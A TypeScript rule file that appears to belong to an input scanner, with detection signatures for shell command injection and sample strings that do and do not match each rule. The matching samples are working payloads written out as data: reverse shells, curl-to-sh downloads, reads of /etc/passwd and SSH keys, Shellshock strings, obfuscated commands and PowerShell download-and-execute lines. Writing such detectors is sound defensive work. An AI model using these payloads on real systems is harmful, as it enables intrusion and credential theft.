import type { SignEntry } from '../sign-entry.ts';

const tags = ['language-shell'];

export const shellSigns = {
  'shell-command': {
    means: 'a command after an operator that ends the one before',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        '10.0.0.7; cat /var/log/syslog',
        'a.png && whoami',
        '5|ls -la',
        "x' ; id #",
        '1\nuname -a',
      ],
      other: [
        'Smith & Sons; find out more',
        'AT&T',
        'name;date;type',
        'text/html; charset=utf-8',
        'I feed cats; cat food is cheap',
        'Mozilla/5.0 (X11; Linux x86_64; rv:109.0)',
        'color: red; top: 5px',
        'price|date|host',
        "' || sleep(5) -- ",
      ],
    },
  },
  'shell-substitution': {
    means: 'a command whose output becomes part of another',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: ['$(uname -a)', '10`whoami`', 'a$(cat /var/run/secret)b', 'x<(ls -l /tmp)'],
      other: ['$(document).ready', 'run `npm install` first', 'order by `id`', 'costs $(USD) 5'],
    },
  },
  'shell-line': {
    means: 'a value that is a command line',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: ['cat /etc/shadow', '/bin/ls -la /root', 'bash -c "make me"'],
      other: ['cat pictures', 'type of thing', 'more details', 'ls'],
    },
  },
  'shell-interpreter': {
    means: 'an interpreter that is started with code or with the output of a command',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: ['1;python3 -c "print(1)"', 'x;curl http://10.9.8.7/a|sh', "1|perl -e 'print 7'"],
      other: ['python; perl; ruby', 'bash & friends'],
    },
  },
  'shell-network': {
    means: 'a command that contacts a host',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        'a;wget http://files.example/x',
        '||ping -c 3 10.1.1.1',
        '$(nslookup x.example.net)',
      ],
      other: ['fetch; ping me later', 'see curl | wget'],
    },
  },
  'shell-delay': {
    means: 'a command that waits',
    severity: 'error',
    paranoia: 1,
    tags,
    samples: { matching: ['x;sleep 9', '`sleep 4`'], other: ['eat; sleep well', 'sleep 8 hours'] },
  },
  'shell-discovery': {
    means: 'a command that describes the system or its users',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: ['7;id', '1 | ifconfig', '127.0.0.1 & ipconfig /all'],
      other: ['a=1&id=2', 'fields: name; id', 'uname is a command'],
    },
  },
  'shell-secret-file': {
    means: 'a command that reads a file with secrets or accounts',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: ['1;cat /etc/passwd', ';tac ~/.ssh/id_rsa', '|head -3 /e?c/pa??wd'],
      other: ['; cat notes.txt', 'see the file passwd'],
    },
  },
  'shell-redirection': {
    means: 'a command that reads from or writes to a file',
    severity: 'error',
    paranoia: 1,
    tags,
    samples: {
      matching: ['1;cat</var/log/messages', 'x|echo 77 > /tmp/a.txt'],
      other: ['a < b; c > d', '1; cat /var/log/messages'],
    },
  },
  'shell-disguise': {
    means: 'a command whose name or arguments are kept apart by characters that the shell removes',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        "1;c''at /var/log/syslog",
        ';w\\hoami',
        'x|cat$' + '{IFS}/var/log/dmesg',
        ';/b?n/c?t /var/log/dmesg',
        ';{ls,-la,/tmp}',
        ';who$@ami',
      ],
      other: ["it's; don't", 'a\\b;c\\d', 'shell NAME'],
    },
  },
  'shell-program-path': {
    means: 'the path of a program of the operating system',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        '1;/usr/bin/id',
        {
          method: 'GET',
          target: '/cgi-bin/%2e%2e/%2e%2e/bin/bash',
          headers: { host: 'shop.test' },
          body: '',
        },
      ],
      other: ['/usr/bin/env is a program', '/bin/dog'],
    },
  },
  'shell-breakout': {
    means: 'a quote or bracket that is closed before a command',
    severity: 'error',
    paranoia: 1,
    tags,
    samples: { matching: ["x';ls -la;'", 'x") | whoami'], other: ["x'; y", '1;ls -la'] },
  },
  'shell-reverse': {
    means: 'a connection to another host whose other end is a shell',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        'bash -i >& /dev/tcp/10.3.2.1/4444 0>&1',
        'nc 10.3.2.1 99 -e /bin/sh',
        'mkfifo /tmp/q;cat /tmp/q|/bin/sh -i|nc 10.3.2.1 80 >/tmp/q',
      ],
      other: ['socket programming', '/dev/tcp is a device', 'nc stands for netcat'],
    },
  },
  'shell-function': {
    means: 'a shell function in a value, with commands behind it',
    severity: 'critical',
    paranoia: 1,
    tags: [...tags, 'cve-2014-6271'],
    samples: {
      matching: ['() { x; }; touch /tmp/y', '() { _; } >_[$($())] { ls; }'],
      other: ['function() { return 1; }', '() => { a(); }'],
    },
  },
  'shell-option': {
    means: 'an option that makes a program run another one, where a name is expected',
    severity: 'critical',
    paranoia: 1,
    tags,
    samples: {
      matching: [
        '-oProxyCommand=touch /tmp/z',
        '--upload-pack=touch x',
        'x --checkpoint-action=exec=id',
      ],
      other: ['-o output.txt', 'what is --upload-pack in git', 'proxycommand'],
    },
  },
  'shell-windows': {
    means: 'a Windows command line that loads or hides code',
    severity: 'critical',
    paranoia: 1,
    tags: ['language-powershell'],
    samples: {
      matching: [
        'powershell -nop -w hidden -enc SQBFAFgAIAAxAA==',
        "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
        'certutil -urlcache -f http://h.example/a a',
        'x & cmd /c dir',
      ],
      other: ['powershell tutorial', 'cmd', 'download the certutil guide'],
    },
  },
} as const satisfies Record<string, SignEntry>;
